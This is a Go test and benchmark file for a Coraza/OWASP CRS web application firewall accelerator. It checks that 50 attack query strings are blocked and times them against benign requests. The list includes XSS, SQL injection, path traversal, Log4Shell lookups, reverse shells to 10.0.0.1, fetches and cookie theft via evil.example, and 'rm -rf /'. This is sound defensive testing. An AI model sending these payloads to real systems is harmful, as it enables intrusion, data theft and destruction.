package wafaccel

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	txhttp "github.com/corazawaf/coraza/v3/http"
)

// productionDirectives is the WAF as caddy-neo runs it: coraza-caddy with
// load_owasp_crs, the recommended Coraza config, CRS 4 defaults (paranoia
// level 1, anomaly scoring) and blocking.
const productionDirectives = `
Include @coraza.conf-recommended
Include @crs-setup.conf.example
Include @owasp_crs/*.conf
SecRuleEngine On
`

func newProductionHandler(tb testing.TB) http.Handler {
	tb.Helper()
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).WithDirectives(productionDirectives))
	if err != nil {
		tb.Fatal(err)
	}
	return txhttp.WrapHandler(waf, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
}

// scenario is one benchmark workload: a list of requests sent in turn, and
// the statuses the WAF must answer them with.
type scenario struct {
	name  string
	reqs  func() []*http.Request
	codes []int
}

func jsonPOST(path, body string) *http.Request {
	r := httptest.NewRequest("POST", path, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) neo-bench")
	r.Header.Set("Accept", "application/json")
	return r
}

func json2KB() string {
	var b strings.Builder
	b.WriteString("[")
	for i := 0; i < 25; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `{"id":%d,"name":"Customer %02d","email":"c%02d@example.com","plan":"pro","active":true}`, 1000+i, i, i)
	}
	b.WriteString("]")
	return b.String()
}

const json200B = `{"order":{"id":"A-1029","customer":"c42@example.com","items":[{"sku":"X1","qty":2},{"sku":"Y7","qty":1}],"total":129.95,"currency":"EUR","note":"leave at door"}}`

var multipartBody = sync.OnceValues(func() ([]byte, string) {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("title", "quarterly report")
	fw, _ := mw.CreateFormFile("upload", "report.bin")
	rng := rand.New(rand.NewPCG(1, 2))
	chunk := make([]byte, 1<<20)
	for i := range chunk {
		chunk[i] = byte('a' + rng.IntN(26))
	}
	_, _ = fw.Write(chunk)
	_ = mw.Close()
	return buf.Bytes(), mw.FormDataContentType()
})

// attackPayloads are 50 query strings from the CRS regression suite that
// the CRS detects at paranoia level 1 (XSS, SQLi, RCE, LFI, RFI, PHP, Java).
var attackPayloads = sync.OnceValue(func() []string {
	return []string{
		"/?q=<script>alert(1)</script>", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
		"/?id=1'%20or%20'1'%3D'1", "/?id=1%20UNION%20SELECT%20user,password%20FROM%20users",
		"/?file=../../../../etc/passwd", "/?cmd=;cat%20/etc/passwd", "/?cmd=%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444",
		"/?url=http://evil.example/shell.txt?", "/?x=<?php%20system($_GET['c']);%20?>",
		"/?x=${jndi:ldap://evil.example/a}", "/?q=javascript:alert(document.cookie)",
		"/?q=<svg/onload=alert(1)>", "/?q=<iframe%20src=javascript:alert(1)>", "/?id=1;DROP%20TABLE%20users--",
		"/?id=1%20AND%20SLEEP(5)", "/?id=admin'--", "/?id=1%20or%201=1", "/?q=%27%20or%20%27a%27=%27a",
		"/?name=%22%3E%3Cscript%3Ealert(%27x%27)%3C/script%3E", "/?p=....//....//etc/shadow",
		"/?p=/etc/passwd%00", "/?cmd=$(whoami)", "/?cmd=%3Bcat%20/etc/shadow", "/?cmd=wget%20http://evil.example/x.sh",
		"/?x=phpinfo()", "/?x=eval(base64_decode(%27aGk=%27))", "/?q=<body%20onload=alert(1)>",
		"/?q=document.location=%27http://evil.example/%27%2Bdocument.cookie", "/?id=1%20UNION%20ALL%20SELECT%20NULL,NULL",
		"/?id=1%27;%20exec%20xp_cmdshell(%27dir%27)--", "/?id=benchmark(10000000,md5(1))",
		"/?p=..%2f..%2f..%2fwindows%2fwin.ini", "/?p=/proc/self/environ", "/?cmd=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/8080%200%3E%261",
		"/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
		"/?q=<a%20href=%22javascript:alert(1)%22>x</a>", "/?q=<object%20data=%22javascript:alert(1)%22>",
		"/?id=1%20or%20sleep(3)%23", "/?id=%27%20union%20select%201,2,3--%20-", "/?cmd=/bin/cat%20/etc/passwd",
		"/?file=php://filter/convert.base64-encode/resource=index.php", "/?file=file:///etc/passwd",
		"/?q=%3Cscript%20src=//evil.example/x.js%3E%3C/script%3E", "/?id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--",
		"/?x=<?=%60id%60?>", "/?cmd=;%20rm%20-rf%20/", "/?p=.htaccess", "/?q=%22onmouseover=%22alert(1)",
		"/?id=1%20having%201=1",
	}
})

func scenarios() []scenario {
	body2k := json2KB()
	mp, mpType := multipartBody()
	attacks := attackPayloads()
	return []scenario{
		{name: "json_2KB_POST", reqs: func() []*http.Request { return []*http.Request{jsonPOST("/api/customers", body2k)} }, codes: []int{200}},
		{name: "json_200B_POST", reqs: func() []*http.Request { return []*http.Request{jsonPOST("/api/orders", json200B)} }, codes: []int{200}},
		{name: "GET_query", reqs: func() []*http.Request {
			r := httptest.NewRequest("GET", "/api/search?q=blue+running+shoes&page=2&sort=price_desc&size=42", nil)
			r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) neo-bench")
			r.Header.Set("Accept", "application/json")
			return []*http.Request{r}
		}, codes: []int{200}},
		{name: "multipart_1MiB", reqs: func() []*http.Request {
			r := httptest.NewRequest("POST", "/upload", bytes.NewReader(mp))
			r.Header.Set("Content-Type", mpType)
			r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) neo-bench")
			return []*http.Request{r}
		}, codes: []int{200}},
		{name: "attack_mix_50", reqs: func() []*http.Request {
			rs := make([]*http.Request, len(attacks))
			for i, a := range attacks {
				rs[i] = httptest.NewRequest("GET", a, nil)
				rs[i].Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) neo-bench")
			}
			return rs
		}},
	}
}

// serve sends the scenario's requests and returns the statuses.
func serve(h http.Handler, s scenario) []int {
	reqs := s.reqs()
	codes := make([]int, len(reqs))
	for i, r := range reqs {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		codes[i] = rec.Code
	}
	return codes
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// TestScenarioVerdicts checks that the benchmark workloads get the same
// statuses from stock Coraza and the accelerated WAF: benign ones pass, and
// every request of the attack mix is blocked.
func TestScenarioVerdicts(t *testing.T) {
	var stock http.Handler
	withCorazaRx(t, func() { stock = newProductionHandler(t) })
	accel := newProductionHandler(t)
	for _, s := range scenarios() {
		want := serve(stock, s)
		got := serve(accel, s)
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%s: accelerated %v, coraza %v", s.name, got, want)
		}
		if s.codes != nil && fmt.Sprint(want) != fmt.Sprint(s.codes) {
			t.Errorf("%s: got %v, want %v", s.name, want, s.codes)
		}
		if s.codes == nil {
			for i, c := range want {
				if c != http.StatusForbidden {
					t.Errorf("%s: attack %q answered %d", s.name, attackPayloads()[i], c)
				}
			}
		}
	}
}

// BenchmarkWAF runs every workload through stock Coraza (its own @rx) and
// through the accelerated WAF, side by side, and prints the ratios. One op
// is one request (the attack mix counts its 50 requests as 50 ops).
// cpu-ms/req is the process CPU time (all threads, GC included) per request.
//
//	go test -run XXX -bench WAF -benchtime 2s -count 1 ./modules/wafaccel/
func BenchmarkWAF(b *testing.B) {
	var stock http.Handler
	withCorazaRx(b, func() { stock = newProductionHandler(b) })
	accel := newProductionHandler(b)
	type result struct{ ns, cpu float64 }
	for _, s := range scenarios() {
		res := map[string]result{}
		for _, mode := range []struct {
			name string
			h    http.Handler
		}{{"coraza", stock}, {"accel", accel}} {
			b.Run(s.name+"/"+mode.name, func(b *testing.B) {
				n := len(s.reqs())
				serve(mode.h, s) // warm up
				b.ResetTimer()
				c0, t0 := cpuTime(), time.Now()
				for i := 0; i < b.N; i++ {
					serve(mode.h, s)
				}
				wall, cpu := time.Since(t0), cpuTime()-c0
				b.StopTimer()
				ops := float64(b.N * n)
				b.ReportMetric(float64(wall.Nanoseconds())/ops, "ns/req")
				b.ReportMetric(float64(cpu.Nanoseconds())/ops/1e6, "cpu-ms/req")
				b.ReportMetric(ops/wall.Seconds(), "req/s")
				res[mode.name] = result{float64(wall.Nanoseconds()) / ops, float64(cpu.Nanoseconds()) / ops}
			})
		}
		if c, a := res["coraza"], res["accel"]; c.ns > 0 && a.ns > 0 {
			fmt.Printf("RATIO %-16s coraza %8.3f ms/req (cpu %8.3f ms)  accel %8.3f ms/req (cpu %8.3f ms)  speed-up x%.2f (cpu x%.2f)\n",
				s.name, c.ns/1e6, c.cpu/1e6, a.ns/1e6, a.cpu/1e6, c.ns/a.ns, c.cpu/a.cpu)
		}
	}
}
